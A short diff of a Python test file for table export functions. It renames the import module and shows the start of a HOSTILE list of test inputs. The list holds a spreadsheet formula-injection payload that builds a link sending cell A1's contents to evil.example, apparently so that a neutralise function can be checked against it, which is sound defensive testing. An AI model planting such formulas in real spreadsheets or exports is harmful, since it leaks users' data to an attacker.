@@ -8,7 +8,7 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from explorer.downloads import neutralise, to_csv_bytes, to_json_bytes, to_xlsx_bytes
+from explorer.table_files import neutralise, to_csv_bytes, to_json_bytes, to_xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
